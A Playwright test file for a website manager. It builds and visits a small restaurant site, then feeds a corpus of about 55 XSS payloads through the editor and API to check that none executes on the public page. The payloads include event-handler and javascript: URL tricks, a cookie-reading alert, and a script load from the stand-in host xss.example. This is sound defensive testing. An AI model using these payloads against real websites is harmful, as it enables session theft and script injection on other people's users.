import fs from 'node:fs';
import path from 'node:path';
import { type Browser, expect, type Page, test } from '@playwright/test';
import { createEnvironment, createUser, postOk, uniqueName } from './support/api';
import { expectNoSeriousAxeFindings, wcag21aa } from './support/axe';
import { hasServerDatabase, storeWebsiteBlocksRaw } from './support/db';
import { pngOf } from './support/png';
import { settleLayout } from './support/shots';
import { openEnvironment } from './support/ui';

/**
 * The website manager (spec 02 §2.5) and the public website (CLARIFICATIONS "Public addresses"):
 * a two-page site with a menu, a query-form block and a record list is built in the manager,
 * opened at /site/{slug}/ in a fresh browser context, followed through its menu, and the visits
 * show up in the statistics. An XSS corpus saved through the editor's call never runs on the site.
 */

/** A 16×16 red-brown PNG: the server sniffs it as image/png. */
const logoPng = () => pngOf(() => [122, 31, 43]);

const shotsDir = '/tmp/shots-website';
fs.mkdirSync(shotsDir, { recursive: true });
const shot = async (page: Page, name: string) => {
  for (const width of [1280, 375]) {
    await page.setViewportSize({ width, height: width === 375 ? 812 : 900 });
    await settleLayout(page);
    await page.screenshot({ path: path.join(shotsDir, `${name}-${width}.png`), fullPage: true });
  }
  await page.setViewportSize({ width: 1280, height: 900 });
};

const expectNoSeriousA11yIssues = (page: Page, include?: string) =>
  expectNoSeriousAxeFindings(page, include ?? page.url(), {
    tags: wcag21aa,
    ...(include ? { include: [include] } : {}),
  });

const chooseOption = async (page: Page, label: string | RegExp, option: string, scope = page.locator('body')) => {
  await scope.getByRole('combobox', { name: label }).click();
  await page.getByRole('option', { name: option, exact: true }).click();
};

const saveAndWait = async (page: Page, button: string, message: string) => {
  await page.getByRole('button', { name: button, exact: true }).last().click();
  await expect(page.getByText(message).first()).toBeVisible();
};

/** A fresh context: no cookie, no storage of the manager's session. */
const publicPage = async (browser: Browser, baseURL: string | undefined) => {
  const context = await browser.newContext({ baseURL, locale: 'de-DE' });
  const page = await context.newPage();
  const problems: string[] = [];
  page.on('dialog', (d) => {
    problems.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  // A broken image of a payload (src=x) is no execution; anything about scripts, eval or inline
  // handlers (also a blocked one: the CSP caught what the sanitiser should have) is.
  page.on('console', (m) => {
    if (/script|eval|inline|handler/i.test(m.text())) problems.push(`console.${m.type()}: ${m.text()}`);
  });
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  return { context, page, problems };
};

test.describe('website manager and public website (spec 02 §2.5)', () => {
  test('build a two-page site with a menu, a query form and a record list; visit it; the stats count', async ({
    page,
    browser,
    baseURL,
  }) => {
    const user = await createUser('website');
    const env = await createEnvironment(user.token, uniqueName('Trattoria'), 'gastronomy');
    for (const [title, price] of [
      ['Pizza Margherita', 8.5],
      ['Lasagne al forno', 11.9],
      ['Tiramisù', 5.2],
    ] as const) {
      await postOk(
        '/api/dynamic-records/save',
        { _env: env.url_slug, type: 'articles', id: 'new', data: { title, price } },
        user.token,
      );
    }
    await openEnvironment(page, user, env.url_slug);
    const base = `/env/${env.url_slug}/website-manager`;
    await page.getByRole('navigation', { name: 'Hauptnavigation' }).getByRole('link', { name: 'Webseite' }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Übersicht' })).toBeVisible();
    await expect(page.getByText('Die Website ist noch nicht aktiv.')).toBeVisible();

    await test.step('unknown manager path: the spec text', async () => {
      await page.goto(`${base}/gibt-es-nicht`);
      await expect(page.getByRole('heading', { name: '404 - Seite nicht gefunden' })).toBeVisible();
    });

    await test.step('settings: activate, title and meta description', async () => {
      await page.goto(`${base}/settings`);
      await page.getByRole('switch', { name: 'Website ist aktiv' }).check();
      await page.getByLabel('Titel der Website').fill('Trattoria Bella');
      await page.getByLabel('Meta-Beschreibung').fill('Italienische Küche in Leipzig: Pizza, Pasta und Dolci.');
      await saveAndWait(page, 'Speichern', 'Website-Einstellungen wurden erfolgreich gespeichert.');
      await page.getByRole('tab', { name: 'Schnittstellen' }).click();
      await chooseOption(page, 'Block wählen (Datensätze)', 'Datensatz-Liste');
      await page.getByRole('button', { name: 'Hinzufügen' }).last().click();
      await chooseOption(page, 'Block wählen (Datensätze)', 'Datensatz-Liste');
      await page.getByRole('button', { name: 'Hinzufügen' }).last().click();
      await expect(page.getByText('Diese Schnittstelle wurde bereits hinzugefügt.')).toBeVisible();
      await page.getByRole('tab', { name: 'Zertifikate' }).click();
      await expect(page.getByText('Zertifikate werden hier künftig verwaltet.')).toBeVisible();
    });

    await test.step('the homepage: hero and query-form block; the route switches to the saved id', async () => {
      await page.goto(`${base}/pages`);
      await expect(page.getByText('Noch keine Seiten.')).toBeVisible();
      await page.getByRole('link', { name: 'Neue Seite' }).click();
      await expect(page).toHaveURL(/\/pages\/new\/edit$/);
      await page.getByLabel('Titel', { exact: true }).fill('Willkommen');
      await page.getByRole('checkbox', { name: 'Als Startseite verwenden' }).check();
      await chooseOption(page, 'Block wählen', 'Kopfbereich');
      await page.getByRole('button', { name: 'Block hinzufügen' }).click();
      await page.getByLabel('Überschrift').first().fill('Benvenuti in der Trattoria Bella');
      await page.getByLabel('Untertitel').fill('Hausgemachte Pasta seit 1987.');
      await chooseOption(page, 'Block wählen', 'Formular');
      await page.getByRole('button', { name: 'Block hinzufügen' }).click();
      await page.getByLabel('Veröffentlichungsschlüssel des Formulars').fill('tisch-reservieren');
      await page.getByLabel('Beschriftung der Schaltfläche').last().fill('Tisch reservieren');
      // Moved up and back down: the order is the user's.
      await page.getByRole('button', { name: 'Nach oben' }).last().click();
      await expect(page.getByTestId('page-block').first()).toContainText('Formular');
      await page.getByRole('button', { name: 'Nach unten' }).first().click();
      await expect(page.getByTestId('page-block').first()).toContainText('Kopfbereich');
      await saveAndWait(page, 'Speichern', 'Die Seite wurde erfolgreich gespeichert');
      await expect(page).toHaveURL(/\/pages\/[0-9a-f-]{36}\/edit$/);
      await expect(page.getByLabel('Adresse (Pfad)')).toHaveValue('/willkommen');
      await shot(page, 'manager-page-editor');
      await expectNoSeriousA11yIssues(page, 'main');
    });

    await test.step('the second page: a record list of the dishes', async () => {
      await page.goto(`${base}/pages/new/edit`);
      await page.getByLabel('Titel', { exact: true }).fill('Speisekarte');
      await chooseOption(page, 'Block wählen', 'Datensatz-Liste');
      await page.getByRole('button', { name: 'Block hinzufügen' }).click();
      await page.getByLabel('Überschrift').fill('Unsere Speisen');
      await chooseOption(page, 'Datensatz-Typ', 'Artikel');
      await saveAndWait(page, 'Speichern', 'Die Seite wurde erfolgreich gespeichert');
      await expect(page).toHaveURL(/\/pages\/[0-9a-f-]{36}\/edit$/);
      await page.goto(`${base}/pages`);
      await expect(page.getByRole('row')).toHaveCount(3);
      await expect(page.getByRole('row').filter({ hasText: 'Willkommen' })).toContainText('Startseite');
      await shot(page, 'manager-pages');
      await expectNoSeriousA11yIssues(page, 'main');
    });

    await test.step('a menu with two entries in the main navigation', async () => {
      await page.goto(`${base}/menus`);
      await expect(page.getByRole('button', { name: 'Menü hinzufügen' })).toBeDisabled();
      await page.getByLabel('Titel des neuen Menüs').fill('Hauptmenü');
      await page.getByRole('button', { name: 'Menü hinzufügen' }).click();
      const card = page.getByTestId('menu-card');
      await expect(card.getByRole('heading', { name: 'Hauptmenü' })).toBeVisible();
      await card.getByRole('button', { name: 'Eintrag hinzufügen' }).click();
      await card.getByLabel('Beschriftung').fill('Start');
      await card.getByRole('button', { name: 'Eintrag hinzufügen' }).click();
      await card.getByLabel('Beschriftung').last().fill('Speisekarte');
      await card.getByLabel('Adresse').last().fill('/speisekarte');
      await chooseOption(page, 'Verwendung im Design', 'Hauptnavigation', card);
      await card.getByRole('button', { name: 'Menü speichern' }).click();
      await expect(page.getByText('Das Menü wurde gespeichert.')).toBeVisible();
      await shot(page, 'manager-menus');
      await expectNoSeriousA11yIssues(page, 'main');
    });

    await test.step('design: change to the restaurant design and set the colour', async () => {
      await page.goto(`${base}/design`);
      await page.getByRole('button', { name: 'Design wechseln: Restaurant' }).click();
      await expect(page.getByRole('heading', { name: 'Design-Variablen – Restaurant' })).toBeVisible();
      await page.getByLabel('Slogan').fill('Cucina casalinga');
      // The logo through the file manager's selector: uploaded in place and chosen at once.
      await page.getByRole('button', { name: 'Bild wählen' }).first().click();
      const picker = page.getByRole('dialog', { name: 'Datei auswählen' });
      // Files set before the folder has loaded would go nowhere (a person cannot: the button waits).
      await expect(picker.getByRole('button', { name: 'Hochladen' })).toBeEnabled();
      await picker
        .getByLabel('In diesen Ordner hochladen')
        .setInputFiles({ name: 'Logo.png', mimeType: 'image/png', buffer: logoPng() });
      await expect(page.getByText('Logo.png').first()).toBeVisible();
      // A single choice closes the selector by itself.
      await expect(picker).toBeHidden();
      await saveAndWait(page, 'Speichern', 'Das Design wurde gespeichert.');
      await shot(page, 'manager-design');
      await expectNoSeriousA11yIssues(page, 'main');
      // The menu was placed for the business design: place it for the restaurant design, too.
      await page.goto(`${base}/menus`);
      const card = page.getByTestId('menu-card');
      await chooseOption(page, 'Verwendung im Design', 'Hauptnavigation', card);
      await card.getByRole('button', { name: 'Menü speichern' }).click();
      await expect(page.getByText('Das Menü wurde gespeichert.')).toBeVisible();
    });

    await test.step('a stranger opens /site/{slug}/ in a fresh context and follows the menu', async () => {
      const visitor = await publicPage(browser, baseURL);
      const site = visitor.page;
      const res = await site.goto(`/site/${env.url_slug}/`);
      expect(res?.status()).toBe(200);
      expect(res?.headers()['content-security-policy']).toContain("script-src 'none'");
      await expect(site.getByRole('heading', { level: 1, name: 'Benvenuti in der Trattoria Bella' })).toBeVisible();
      await expect(site).toHaveTitle('Willkommen – Trattoria Bella');
      await expect(site.locator('html')).toHaveAttribute('lang', 'de');
      await expect(site.locator('meta[name="description"]')).toHaveAttribute('content', /Italienische Küche/);
      await expect(site.getByRole('link', { name: 'Tisch reservieren' })).toHaveAttribute(
        'href',
        `/forms/${env.url_slug}/tisch-reservieren`,
      );
      const logo = site.locator('header.site img');
      await expect(logo).toHaveAttribute('src', new RegExp(`^/site/${env.url_slug}/_files/[0-9a-f-]{36}$`));
      const image = await site.request.get(String(await logo.getAttribute('src')));
      expect(image.headers()['content-type']).toBe('image/png');
      await shot(site, 'public-home');
      await expectNoSeriousA11yIssues(site);
      await site
        .getByRole('navigation', { name: 'Hauptnavigation' })
        .getByRole('link', { name: 'Speisekarte' })
        .click();
      await expect(site).toHaveURL(new RegExp(`/site/${env.url_slug}/speisekarte$`));
      await expect(site.getByRole('heading', { name: 'Unsere Speisen' })).toBeVisible();
      await expect(site.getByText('Pizza Margherita')).toBeVisible();
      await expect(site.getByText('Tiramisù')).toBeVisible();
      await shot(site, 'public-menu-card');
      await expectNoSeriousA11yIssues(site);
      await site.getByRole('navigation', { name: 'Hauptnavigation' }).getByRole('link', { name: 'Start' }).click();
      await expect(site.getByRole('heading', { level: 1, name: 'Benvenuti in der Trattoria Bella' })).toBeVisible();
      expect(await visitor.context.cookies()).toEqual([]);
      expect(visitor.problems).toEqual([]);
      await visitor.context.close();
    });

    await test.step('the statistics count the visits', async () => {
      await page.goto(base);
      await expect(page.getByTestId('stats-pages')).toHaveText('2');
      await expect(page.getByTestId('stats-seven')).toHaveText('3');
      await expect(page.getByTestId('stats-thirty')).toHaveText('3');
      await expect(page.getByRole('img', { name: /Besucher pro Tag der letzten 30 Tage, insgesamt 1/ })).toBeVisible();
      await shot(page, 'manager-overview');
      await expectNoSeriousA11yIssues(page, 'main');
      await page.goto(`${base}/settings`);
      await shot(page, 'manager-settings');
    });
  });

  test('an XSS corpus saved through the editor never executes on the public page', async ({
    page,
    browser,
    baseURL,
  }) => {
    const user = await createUser('xss');
    const env = await createEnvironment(user.token, uniqueName('Sicher'), 'agency');
    const call = (p: string, body: object) =>
      postOk(`/api/website-manager/${p}`, { _env: env.url_slug, ...body }, user.token);
    const post = async (p: string, body: object) =>
      (await import('./support/api')).post(`/api/website-manager/${p}`, { _env: env.url_slug, ...body }, user.token);
    await call('save-settings', {
      website: {
        host: '',
        is_active: true,
        debug: true,
        title: 'Sicher',
        meta_description: '',
        meta_keywords: '',
        interfaces: {},
      },
    });

    const corpus = [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
      '<img src=x onerror=alert(1)>',
      '<img src="x" onerror="alert(document.cookie)">',
      '<svg onload=alert(1)>',
      '<svg><script>alert(1)</script></svg>',
      '<body onload=alert(1)>',
      '<iframe src="javascript:alert(1)"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<a href="javascript:alert(1)">klick</a>',
      '<a href="JaVaScRiPt:alert(1)">klick</a>',
      '<a href="&#106;avascript:alert(1)">klick</a>',
      '<a href="&#x6A;avascript:alert(1)">klick</a>',
      '<a href="jav&#x09;ascript:alert(1)">klick</a>',
      '<a href=" javascript:alert(1)">klick</a>',
      '<a href="vbscript:msgbox(1)">klick</a>',
      '<a href="data:text/html,<script>alert(1)</script>">klick</a>',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klick</a>',
      '<div onclick="alert(1)">klick</div>',
      '<div onmouseover="alert(1)">über</div>',
      '<p style="background:url(javascript:alert(1))">x</p>',
      '<p style="x:expression(alert(1))">x</p>',
      '<style>@import "javascript:alert(1)";</style>',
      '<link rel="stylesheet" href="javascript:alert(1)">',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<object data="javascript:alert(1)"></object>',
      '<embed src="javascript:alert(1)">',
      '<form action="javascript:alert(1)"><button>x</button></form>',
      '<button formaction="javascript:alert(1)">x</button>',
      '<input onfocus=alert(1) autofocus>',
      '<select onfocus=alert(1) autofocus>',
      '<textarea onfocus=alert(1) autofocus>',
      '<video><source onerror="alert(1)"></video>',
      '<audio src=x onerror=alert(1)>',
      '<details open ontoggle=alert(1)>',
      '<marquee onstart=alert(1)>x</marquee>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<template><script>alert(1)</script></template>',
      '<base href="javascript:alert(1)//">',
      '"><script>alert(1)</script>',
      "'><img src=x onerror=alert(1)>",
      '</textarea><script>alert(1)</script>',
      '<img src=`x` onerror=alert(1)>',
      '<img/src=x/onerror=alert(1)>',
      '<img src=x onerror="&#97;lert(1)">',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '<<script>alert(1)//<</script>',
      '<a href="#" onclick="alert(1)">x</a>',
      '<table background="javascript:alert(1)">',
      '<isindex action="javascript:alert(1)" type=image>',
      '<img src="http://x" onload=alert(1)>',
      '<div style="width:expression(alert(1))">',
      '{{constructor.constructor("alert(1)")()}}',
      '<x contenteditable onblur=alert(1)>lose focus',
    ];
    expect(corpus.length).toBeGreaterThanOrEqual(50);

    const homepage = (await call('save-page', {
      id: 'new',
      page: {
        title: 'Start',
        url_path: '',
        blocks: [],
        set_as_homepage: true,
        set_as_not_found_page: false,
        record_page: null,
      },
    })) as { data: { id: string } };
    expect(homepage.data.id).toBeTruthy();

    // Each payload in an HTML block, a text block, a hero's button address and a menu entry: refused
    // (400, nothing stored) or stored cleaned. Either way nothing may run on the page.
    const stored: string[] = [];
    for (const [i, payload] of corpus.entries()) {
      const res = await post('save-page', {
        id: 'new',
        page: {
          title: `Probe ${i}`,
          url_path: `/probe-${i}`,
          blocks: [
            { type: 'html', designblock: true, fields: { html: payload } },
            { type: 'text', designblock: true, fields: { heading: payload, text: payload } },
            { type: 'hero', designblock: true, fields: { heading: 'H', button_label: 'Los', button_url: payload } },
          ],
          set_as_homepage: false,
          set_as_not_found_page: false,
          record_page: null,
        },
      });
      expect([200, 400], `${payload}: ${JSON.stringify(res.body)}`).toContain(res.httpStatus);
      if (res.httpStatus === 200) stored.push(`/probe-${i}`);
      const safe = await post('save-page', {
        id: 'new',
        page: {
          title: `Text ${i}`,
          url_path: `/text-${i}`,
          blocks: [{ type: 'html', designblock: true, fields: { html: `<p>${payload.replace(/[<>]/g, '')}</p>` } }],
          set_as_homepage: false,
          set_as_not_found_page: false,
          record_page: null,
        },
      });
      if (safe.httpStatus === 200) stored.push(`/text-${i}`);
    }
    const menu = (await call('add-menu', { title: 'Haupt' })) as { data: { _id: string } };
    const menuRes = await post('save-menu', {
      menu: menu.data._id,
      data: {
        title: 'Haupt',
        definition: corpus
          .slice(0, 20)
          .map((payload) => ({ type: 'custom', label: payload.slice(0, 100), url: payload, attributes: {} })),
        design_usage: { business: 'main' },
      },
    });
    expect(menuRes.httpStatus).toBe(400);

    // One page goes through the editor screen itself, with the whole corpus in one HTML block.
    await openEnvironment(page, user, env.url_slug);
    await page.goto(`/env/${env.url_slug}/website-manager/pages/new/edit`);
    await page.getByLabel('Titel', { exact: true }).fill('Editor-Probe');
    await page.getByLabel('Adresse (Pfad)').fill('/editor-probe');
    await chooseOption(page, 'Block wählen', 'HTML');
    await page.getByRole('button', { name: 'Block hinzufügen' }).click();
    await page.getByLabel('HTML', { exact: true }).fill(corpus.join('\n'));
    await page.getByRole('button', { name: 'Speichern', exact: true }).click();
    await expect(
      page.getByText('Skripte, Frames, Ereignis-Attribute (on…) und javascript:-Adressen sind nicht erlaubt.'),
    ).toBeVisible();
    await page.getByLabel('HTML', { exact: true }).fill('<p>Harmlos <a href="https://example.org">Link</a></p>');
    await page.getByRole('button', { name: 'Speichern', exact: true }).click();
    await expect(page.getByText('Die Seite wurde erfolgreich gespeichert')).toBeVisible();
    stored.push('/editor-probe');

    // Past the save (written straight into the database), the render must still clean the corpus.
    if (hasServerDatabase()) {
      await storeWebsiteBlocksRaw(
        homepage.data.id,
        corpus.map((payload) => ({ type: 'html', designblock: true, fields: { html: payload } })),
      );
      stored.push('/');
    }

    const visitor = await publicPage(browser, baseURL);
    for (const p of stored) {
      const res = await visitor.page.goto(`/site/${env.url_slug}${p}`);
      expect(res?.status(), p).toBe(200);
      const body = await res?.text();
      expect(body, p).not.toMatch(
        /<script|<[^>]*\son[a-z]+\s*=|(href|src|action)\s*=\s*["']?\s*javascript:|<iframe|<object|<embed|<style>@/i,
      );
      // Give autofocus/onload handlers a moment, and hover/click everything clickable.
      await visitor.page.mouse.move(200, 300);
      await visitor.page.waitForTimeout(50);
    }
    // Refused payloads stored nothing; the rest (cleaned) were all rendered above.
    expect(stored.length).toBeGreaterThan(30);
    expect(visitor.problems).toEqual([]);
    await visitor.context.close();
  });
});
